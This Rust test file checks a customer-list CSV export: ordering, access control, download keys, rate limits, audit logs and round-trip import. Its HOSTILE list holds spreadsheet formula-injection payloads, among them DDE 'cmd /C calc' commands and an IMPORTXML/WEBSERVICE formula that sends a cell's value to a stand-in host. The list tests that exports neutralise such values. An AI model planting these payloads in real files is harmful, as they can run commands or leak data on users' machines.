//! The list as a file: it is the list, whole or broken, and what comes out goes in again.
#![allow(clippy::unwrap_used, reason = "a test may stop at the first surprise")]
#![allow(dead_code, reason = "each test file uses its part of the support")]

#[path = "support/files.rs"]
mod files;
mod support;

use axum::http::StatusCode;
use domain::{
    edit::Edit,
    field::{FieldDraft, FieldKind, ValueEdit},
    lifecycle::Lifecycle,
    query::CustomerQuery,
    role::Role,
    time::At,
};
use files::{fill, prepare};
use http_body_util::BodyExt;
use support::{Answer, KINDS, Server, start};
use tower::ServiceExt;

/// Names that a spreadsheet would work out, that CSV could trip over, and that look as if they were guarded.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://x\",\"y\")",
    "+49 151 1",
    "-1",
    "@SUM(A1)",
    "'=1+1",
    "''=1+1",
    "'Ann",
    "O'Neill",
    "a,b;c",
    "say \"hi\"",
    "＝1",
    "\u{200b}=1",
    "|x",
    "%x",
    "客户 ünïcode",
    "١٢٣",
    "=",
    "+",
    "-",
    "@",
    "'",
    "''",
    "'+1",
    "'-1",
    "'@x",
    "'＝1",
    "==1",
    "-=1",
    "=-1",
    "=1+1\";=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://x/?v=\", A1), \"//a\")",
    "=WEBSERVICE(\"http://x\")",
    "＋1",
    "－1",
    "＠x",
    "\u{feff}=1",
    "\u{200e}=1",
    "\u{202e}=1",
    "\u{2060}=1",
    "\u{ad}=1",
    "\u{2066}=1",
    "\u{61c}=1",
    "\n=1",
    "\u{a0}=1",
    "|x",
    "%x",
    "\u{200b}\u{feff}+1",
    "\"=1\"",
    "\"",
    ",",
    ";=1",
    "=1,=2",
    "=1;=2",
    "«=»",
    "1-2",
    "-1.5e3",
    "+49 (151) 1",
];

async fn hostile(server: &Server) {
    let rows = HOSTILE.iter().enumerate().map(|(n, text)| {
        let customer = store::NewCustomer {
            name: (*text).into(),
            email: format!("h{n}@x.example"),
            company: (*text).into(),
            phone: match n % 3 {
                0 => format!("+49151123456{n:02};+49151999999{n:02}"),
                1 => format!("+49151123456{n:02}"),
                _ => format!("0151 1{n}"),
            },
            other_emails: if n % 3 == 0 { format!("second{n}@x.example;third{n}@x.example") } else { String::new() },
            external_id: if n % 3 == 0 { format!("={n};second {n}") } else { format!("={n}") },
            lifecycle: Some(Lifecycle::ALL[n % 4]),
            // No name of a tag holds what parts them, or what nobody sees.
            tags: vec![
                format!("-tag {n}"),
                text.chars().filter(|c| c.is_ascii() && !c.is_control() && !",;".contains(*c)).collect(),
                "annual".into(),
            ]
            .into_iter()
            .filter(|name: &String| !name.trim().is_empty())
            .collect(),
            segments: vec!["=Segment".into()],
            ltv_minor: Some(n as i64 * 101 - 500),
            first_seen: Some(At(1_700_000_000_000 + n as i64 * 1_000)),
            last_active: Some(At(1_750_000_000_000 + n as i64 * 1_000)),
        };
        (n as u64 + 2, customer)
    });
    let done = server.store.import(rows.collect()).await.unwrap();
    assert_eq!(done.refused.len(), 0, "{:?}", done.refused);
}

async fn get(server: &Server, cookie: &str, query: &str) -> Answer {
    server.page(&format!("/customers/export.csv{query}"), Some(cookie)).await
}

/// Heads and rows as a program reads them, without the columns that a workspace makes for itself.
fn cells(body: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(body.as_bytes());
    let rows: Vec<Vec<String>> = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
    let own = ["ID", "Lifecycle Since", "Created", "Updated", "Intent"];
    let kept: Vec<usize> = (0..rows[0].len()).filter(|n| !own.contains(&rows[0][*n].as_str())).collect();
    rows.iter().map(|row| kept.iter().map(|n| row[*n].clone()).collect()).collect()
}

#[tokio::test]
async fn the_file_is_the_list_in_its_order_whoever_matches() {
    for kind in KINDS {
        let server = start(kind).await.with_people().await;
        hostile(&server).await;
        let cookie = server.cookie(Role::Manager).await;
        for query in ["", "?sort=ltv_asc", "?lifecycle=active&sort=name_desc", "?q=h1", "?q=nobody"] {
            let file = get(&server, &cookie, query).await;
            assert_eq!(file.status, StatusCode::OK);
            assert_eq!(file.headers["content-type"], "text/csv; charset=utf-8");
            assert!(
                file.headers["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"customers-")
            );
            let address = format!("{}&per_page=100", query.trim_start_matches('?'));
            let body = serde_json::json!({ "address": address.trim_start_matches('&') }).to_string();
            let list = server.json("/api/customers/page", &body, Some(&cookie)).await;
            let list: serde_json::Value = serde_json::from_str(&list.body).unwrap();
            let shown: Vec<&str> =
                list["rows"].as_array().unwrap().iter().map(|row| row["id"].as_str().unwrap()).collect();
            let mut reader = csv::Reader::from_reader(file.body.as_bytes());
            let written: Vec<String> = reader.records().map(|row| row.unwrap()[0].to_owned()).collect();
            assert_eq!(written, shown, "{query}");
            assert_eq!(file.headers["acumen-rows"].to_str().unwrap(), shown.len().to_string());
        }
        let marked = get(&server, &cookie, "?bom=1&columns=marketing&file=../%E5%AE%A2").await;
        assert!(marked.body.starts_with("\u{feff}Name,Email,Tags,Segments\r\n"), "{}", marked.body);
        let called = marked.headers["content-disposition"].to_str().unwrap();
        assert_eq!(called, "attachment; filename=\"-_.csv\"; filename*=UTF-8''-%E5%AE%A2.csv");
        for (query, status) in [
            ("?lifecycle=ACTIVE", 422),
            ("?nonsense=1", 422),
            ("?columns=all", 422),
            ("?columns=list&columns=list", 400),
            ("?key=none", 404),
            ("?page=0", 422),
            ("?q=%zz", 400),
            ("?q=%00", 400),
            (&format!("?q={}", "x".repeat(300)), 422),
            (&format!("?file={}", "x".repeat(300)), 422),
        ] {
            assert_eq!(get(&server, &cookie, query).await.status.as_u16(), status, "{query}");
        }
        for unmarked in ["?bom=0", "?bom=false", "?columns=list"] {
            assert!(get(&server, &cookie, unmarked).await.body.starts_with("ID,"), "{unmarked}");
        }
        let nobody = server.page("/customers/export.csv?key=none", None).await;
        assert_eq!((nobody.status, &*nobody.code()), (StatusCode::UNAUTHORIZED, "signed_out"), "a page would save it");
    }
}

#[tokio::test]
async fn a_file_of_thousands_is_whole_and_in_the_order_of_the_list() {
    for kind in KINDS {
        let server = start(kind).await.with_people().await;
        let rows = (0..3_500u64).map(|n| {
            let customer = store::NewCustomer {
                name: format!("Customer {:05}", n * 7_919 % 3_500),
                email: format!("many{n}@x.example"),
                ltv_minor: Some((n * 104_729 % 3_500) as i64),
                ..Default::default()
            };
            (n + 2, customer)
        });
        server.store.import(rows.collect()).await.unwrap();
        let cookie = server.cookie(Role::Manager).await;
        for (sort, column) in [("name_desc", "Name"), ("ltv_asc", "LTV")] {
            let file = get(&server, &cookie, &format!("?q=many&sort={sort}")).await;
            assert_eq!(file.headers["acumen-rows"], "3500", "{kind:?}");
            let mut reader = csv::Reader::from_reader(file.body.as_bytes());
            let at = reader.headers().unwrap().iter().position(|head| head == column).unwrap();
            let written: Vec<String> = reader.records().map(|row| row.unwrap()[at].to_owned()).collect();
            let expected: Vec<String> = match column {
                "Name" => (0..3_500).rev().map(|n| format!("Customer {n:05}")).collect(),
                _ => (0..3_500).map(|n| format!("{}.{:02}", n / 100, n % 100)).collect(),
            };
            assert_eq!(written, expected, "{kind:?} {sort}");
        }
    }
}

#[tokio::test]
async fn who_is_deleted_between_asking_and_fetching_is_left_out_and_a_reader_who_leaves_breaks_the_file() {
    for kind in KINDS {
        let server = start(kind).await.with_people().await;
        let cookie = server.cookie(Role::Manager).await;
        let all = serde_json::json!({ "matching": { "address": "", "except": [] } });
        let prepared = prepare(&server, &cookie, all.clone()).await;
        let prepared: serde_json::Value = serde_json::from_str(&prepared.body).unwrap();
        assert_eq!(prepared["is_waiting"], true, "{kind:?}");
        let ann = server.store.customer_page(&CustomerQuery::parse("q=ann").unwrap()).await.unwrap().rows[0].id;
        let by = server.store.people().await.unwrap()[0].id;
        server.store.delete_customer(by, ann).await.unwrap();
        let file = get(&server, &cookie, &format!("?key={}", prepared["key"].as_str().unwrap())).await;
        assert_eq!(cells(&file.body).len(), 3, "{kind:?}: heads and who is left");
        let far = async |key: &serde_json::Value| {
            let body = serde_json::json!({ "key": key }).to_string();
            let far = server.json("/api/bulk/csv_file", &body, Some(&cookie)).await;
            serde_json::from_str::<serde_json::Value>(&far.body).unwrap()
        };
        let told = far(&prepared["key"]).await;
        assert_eq!(
            (&told["total"], &told["rows"], &told["status"]),
            (&3.into(), &2.into(), &"done".into()),
            "{kind:?}"
        );
        // More than waits for a slow reader, who then leaves.
        fill(&server).await;
        let prepared = prepare(&server, &cookie, all).await;
        let prepared: serde_json::Value = serde_json::from_str(&prepared.body).unwrap();
        let request =
            axum::http::Request::get(format!("/customers/export.csv?key={}", prepared["key"].as_str().unwrap()))
                .header("host", "127.0.0.1:3000")
                .header("cookie", &cookie)
                .body(axum::body::Body::empty())
                .unwrap();
        let mut body = server.router.clone().oneshot(request).await.unwrap().into_body();
        assert!(body.frame().await.unwrap().unwrap().is_data(), "{kind:?}");
        assert_eq!(far(&prepared["key"]).await["status"], "open", "{kind:?}");
        drop(body);
        let begun = std::time::Instant::now();
        while far(&prepared["key"]).await["status"] == "open" {
            assert!(begun.elapsed().as_secs() < 5, "{kind:?}: it is written for nobody");
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
        let told = far(&prepared["key"]).await;
        assert_eq!(told["status"], "broken", "{kind:?}");
        assert!(told["rows"].as_u64() < told["total"].as_u64(), "{kind:?}");
    }
}

#[tokio::test]
async fn what_comes_out_goes_in_again_and_comes_out_the_same() {
    for kind in KINDS {
        let (server, other) = (start(kind).await.with_people().await, start(kind).await.with_people().await);
        hostile(&server).await;
        let cookie = server.cookie(Role::Manager).await;
        let first = get(&server, &cookie, "?columns=everything&sort=ltv_asc").await;
        assert_eq!(first.status, StatusCode::OK, "{}", first.body);
        for row in csv::Reader::from_reader(first.body.as_bytes()).records() {
            for cell in row.unwrap().iter() {
                let is_number = cell.trim_start_matches(['-', '+']).bytes().all(|b| b.is_ascii_digit() || b == b'.');
                assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '＝', '\t', '\r']), "{cell}");
            }
        }
        let done = server::csv_file::import(&other.store, first.body.as_bytes()).await.unwrap();
        assert_eq!(done.refused.len(), 0, "{:?}", done.refused);
        let cookie = other.cookie(Role::Manager).await;
        let second = get(&other, &cookie, "?columns=everything&sort=ltv_asc").await;
        assert_eq!(cells(&first.body), cells(&second.body));
    }
}

#[tokio::test]
async fn a_file_is_fetched_once_by_who_asked_for_it_and_says_how_far_it_is() {
    for kind in KINDS {
        let server = start(kind).await.with_people().await;
        let cookie = server.cookie(Role::Manager).await;
        let other = server.cookie(Role::Admin).await;
        let prepared =
            prepare(&server, &cookie, serde_json::json!({ "matching": { "address": "", "except": [] } })).await;
        assert_eq!(prepared.status, StatusCode::OK, "{}", prepared.body);
        let prepared: serde_json::Value = serde_json::from_str(&prepared.body).unwrap();
        let query = format!("?key={}", prepared["key"].as_str().unwrap());
        assert_eq!((prepared["total"].as_u64(), prepared["name"].as_str()), (Some(3), Some("mine.csv")));
        assert_eq!(get(&server, &other, &query).await.status, StatusCode::NOT_FOUND);
        let file = get(&server, &cookie, &query).await;
        let names: Vec<String> = cells(&file.body).iter().skip(1).map(|row| row[0].clone()).collect();
        assert_eq!(names, ["ann", "bob", "cleo"]);
        assert_eq!(get(&server, &cookie, &query).await.status, StatusCode::NOT_FOUND, "a second time");
        let body = serde_json::json!({ "key": prepared["key"] }).to_string();
        let far = server.json("/api/bulk/csv_file", &body, Some(&cookie)).await;
        let far: serde_json::Value = serde_json::from_str(&far.body).unwrap();
        assert_eq!((far["rows"].as_u64(), far["status"].as_str()), (Some(3), Some("done")));
        assert_eq!(far["bytes"].as_u64(), Some(file.body.len() as u64));
        let ids: Vec<String> =
            csv::Reader::from_reader(file.body.as_bytes()).records().map(|row| row.unwrap()[0].to_owned()).collect();
        let some = prepare(&server, &cookie, serde_json::json!({ "these": [ids[2], ids[0]] })).await;
        let some: serde_json::Value = serde_json::from_str(&some.body).unwrap();
        let file = get(&server, &cookie, &format!("?key={}", some["key"].as_str().unwrap())).await;
        let names: Vec<String> = cells(&file.body).iter().skip(1).map(|row| row[0].clone()).collect();
        assert_eq!(names, ["ann", "cleo"]);
        // Who is named and not there is skipped, and the count says so.
        let named = prepare(&server, &cookie, serde_json::json!({ "these": [ids[2], "00000000001", ids[0]] })).await;
        let named: serde_json::Value = serde_json::from_str(&named.body).unwrap();
        let key = named["key"].as_str().unwrap();
        let file = get(&server, &cookie, &format!("?key={key}")).await;
        assert_eq!(cells(&file.body).len(), 3, "heads and two rows");
        let body = serde_json::json!({ "key": key }).to_string();
        let far = server.json("/api/bulk/csv_file", &body, Some(&cookie)).await;
        let far: serde_json::Value = serde_json::from_str(&far.body).unwrap();
        assert_eq!((&far["total"], &far["rows"], &far["status"]), (&3.into(), &2.into(), &"done".into()));
        // Stopped before it was fetched.
        let stopped =
            prepare(&server, &cookie, serde_json::json!({ "matching": { "address": "", "except": [ids[0]] } })).await;
        let stopped: serde_json::Value = serde_json::from_str(&stopped.body).unwrap();
        assert_eq!(stopped["total"].as_u64(), Some(2));
        let body = serde_json::json!({ "key": stopped["key"] }).to_string();
        let ended = server.json("/api/bulk/csv_stop", &body, Some(&cookie)).await;
        assert!(ended.body.contains("\"broken\""), "{}", ended.body);
        assert_eq!(
            get(&server, &cookie, &format!("?key={}", stopped["key"].as_str().unwrap())).await.status,
            StatusCode::NOT_FOUND
        );
        // All of it is in the audit log, with how many.
        let admin = server.cookie(Role::Admin).await;
        let log = server.page("/settings/audit.csv?kind=customers_exported", Some(&admin)).await;
        assert!(log.body.contains("3 customers; Columns in this list; everybody"), "{}", log.body);
        assert!(log.body.contains("2 customers; Columns in this list; named one by one"), "{}", log.body);
    }
}

#[tokio::test]
async fn the_result_of_an_action_says_what_became_of_each() {
    for kind in KINDS {
        let server = start(kind).await.with_people().await;
        let cookie = server.cookie(Role::Manager).await;
        let people: Vec<String> =
            csv::Reader::from_reader(get(&server, &cookie, "?sort=name_asc").await.body.as_bytes())
                .records()
                .map(|row| row.unwrap()[0].to_owned())
                .collect();
        let one = serde_json::json!({ "id": people[0], "edit": { "lifecycle": { "from": "lead", "to": "churned" } } })
            .to_string();
        assert_eq!(server.json("/api/customer/edit", &one, Some(&cookie)).await.status, StatusCode::OK);
        let request = serde_json::json!({ "request": { "selection": { "these": people },
            "action": { "update_lifecycle": "churned" }, "expected": 3, "key": "k" } });
        let job = server.json("/api/bulk/change", &request.to_string(), Some(&cookie)).await;
        let job: serde_json::Value = serde_json::from_str(&job.body).unwrap();
        let id = job["id"].as_str().unwrap();
        let again =
            serde_json::json!({ "id": people[1], "edit": { "lifecycle": { "from": "churned", "to": "active" } } })
                .to_string();
        assert_eq!(server.json("/api/customer/edit", &again, Some(&cookie)).await.status, StatusCode::OK);
        let undo = serde_json::json!({ "id": id, "key": "u" }).to_string();
        let undone = server.json("/api/bulk/undo", &undo, Some(&cookie)).await;
        let undone: serde_json::Value = serde_json::from_str(&undone.body).unwrap();
        let result = async |id: &str| {
            let file = server.page(&format!("/settings/activity.csv?id={id}"), Some(&cookie)).await;
            let mut rows: Vec<(usize, String)> = csv::Reader::from_reader(file.body.as_bytes())
                .records()
                .map(|row| row.unwrap())
                .map(|row| (people.iter().position(|id| *id == row[0]).unwrap(), row[1].to_owned()))
                .collect();
            rows.sort();
            rows
        };
        let said = |rows: &[(usize, &str)]| rows.iter().map(|(n, says)| (*n, (*says).to_owned())).collect::<Vec<_>>();
        assert_eq!(result(id).await, said(&[(0, "already so"), (1, "changed"), (2, "changed")]));
        let back = undone["id"].as_str().unwrap();
        assert_eq!(result(back).await, said(&[(1, "skipped: edited since"), (2, "changed")]));
        assert_eq!(
            server.page("/settings/activity.csv?id=00000000001", Some(&cookie)).await.status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(server.page("/settings/activity.csv", Some(&cookie)).await.status, StatusCode::BAD_REQUEST);
    }
}

#[tokio::test]
async fn files_are_begun_so_often_and_no_oftener() {
    let server = start(KINDS[0]).await.with_people().await;
    let cookie = server.cookie(Role::Manager).await;
    for _ in 0..10 {
        assert_eq!(get(&server, &cookie, "").await.status, StatusCode::OK);
    }
    let refused = get(&server, &cookie, "").await;
    let viewer = server.cookie(Role::Viewer).await;
    assert_eq!(get(&server, &viewer, "").await.status, StatusCode::FORBIDDEN);
    assert_eq!((refused.status, refused.code().as_str()), (StatusCode::TOO_MANY_REQUESTS, "too_many_tries"));
    // Another person has their own, and those who ask together get no more.
    let admin = server.cookie(Role::Admin).await;
    let all = serde_json::json!({ "matching": { "address": "", "except": [] } });
    let together = futures_util::future::join_all((0..15).map(|_| prepare(&server, &admin, all.clone()))).await;
    let begun = together.iter().filter(|answer| answer.status == StatusCode::OK).count();
    assert_eq!(begun, 10, "{:?}", together.iter().map(|answer| answer.status).collect::<Vec<_>>());
    let agent = server.cookie(Role::Agent).await;
    assert_eq!(get(&server, &agent, "").await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn numbers_of_custom_fields_are_written_as_they_are_and_texts_are_guarded() {
    for kind in KINDS {
        let server = start(kind).await.with_people().await;
        let (store, by) = (&server.store, server.store.people().await.unwrap()[0].id);
        let id = store.customer_page(&CustomerQuery::parse("q=ann").unwrap()).await.unwrap().rows[0].id;
        for (name, of, value) in
            [("Balance", FieldKind::Number, "-7.5"), ("Remark", FieldKind::Text, "-8"), ("-Odd", FieldKind::Text, "=1")]
        {
            let draft = FieldDraft { name: name.into(), kind: of, options: String::new() };
            let field = store.define_field(by, &draft).await.unwrap();
            let edit = ValueEdit { field, from: String::new(), to: value.into() };
            store.edit(by, id, &Edit::Fields(vec![edit])).await.unwrap();
        }
        let cookie = server.cookie(Role::Manager).await;
        let file = get(&server, &cookie, "?columns=everything&q=ann").await;
        let mut reader = csv::Reader::from_reader(file.body.as_bytes());
        let names: Vec<String> = reader.headers().unwrap().iter().rev().take(3).map(str::to_owned).collect();
        let row: Vec<String> =
            reader.records().next().unwrap().unwrap().iter().rev().take(3).map(str::to_owned).collect();
        assert_eq!(
            (names.join(" "), row.join(" ")),
            ("'-Odd Remark Balance".into(), "'=1 '-8 -7.5".into()),
            "{kind:?}"
        );
    }
}
